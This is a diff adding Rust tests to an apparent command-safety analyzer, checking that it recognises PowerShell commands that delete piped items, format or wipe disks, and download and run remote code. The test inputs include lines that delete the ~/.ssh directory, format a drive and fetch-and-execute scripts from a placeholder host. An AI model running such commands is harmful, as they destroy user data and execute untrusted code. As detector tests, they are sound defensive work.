@@ -84,6 +84,40 @@ fn pipelines_redirections_and_evaluated_text_are_followed() {
 }
 
 #[test]
+fn a_cmdlet_given_no_path_acts_on_what_is_piped_to_it() {
+    assert!(has("pwsh -c \"Get-ChildItem ~/.ssh | Remove-Item\"", "rm ~/.ssh/*"));
+    assert!(has("Get-ChildItem -Path build -Recurse | Remove-Item -Force", "rm -f build/*"));
+    // Items known only as the stage before runs: a target not known in advance.
+    let analysis = analyze("powershell -c \"Get-Content list.txt | Remove-Item\"").unwrap();
+    let remove = analysis.commands.iter().find(|c| c.program == "rm").unwrap();
+    assert!(remove.has_unknown_arguments(), "{remove:?}");
+    // The control: a path written is the path acted on.
+    assert!(has("Get-ChildItem src | Remove-Item build", "rm build"));
+}
+
+#[test]
+fn disks_and_downloads_evaluated_are_what_they_are() {
+    // A drive is the root of its own file system.
+    assert!(has("powershell -c \"Format-Volume -DriveLetter D -FileSystem NTFS\"", "format /"));
+    let cleared = analyze("powershell -c \"Clear-Disk -Number 1 -RemoveData\"").unwrap();
+    assert!(
+        cleared.effects.iter().any(|e| e.kind == crate::analysis::EffectKind::Format),
+        "{:?}",
+        cleared.effects
+    );
+    for hint in [
+        "powershell \"iex (iwr https://x.example/a.ps1)\"",
+        "powershell -c \"iex ((New-Object Net.WebClient).DownloadString('https://x.example/i'))\"",
+        "pwsh -c \"Invoke-Expression (irm https://x.example/i | Out-String)\"",
+    ] {
+        assert!(analyze(hint).unwrap().has(Fact::RunsDownloadedCode), "{hint}");
+    }
+    // The control: text not known is unknown, not downloaded.
+    let unknown = analyze("powershell -c \"iex (Get-Content .\\setup.ps1 -Raw)\"").unwrap();
+    assert!(!unknown.has(Fact::RunsDownloadedCode) && unknown.has(Fact::EvalOfUnknownText));
+}
+
+#[test]
 fn quoting_follows_each_dialect() {
     assert!(has(
         "powershell -c \"Remove-Item -Recurse -Force 'C:\\Users\\it''s me'\"",
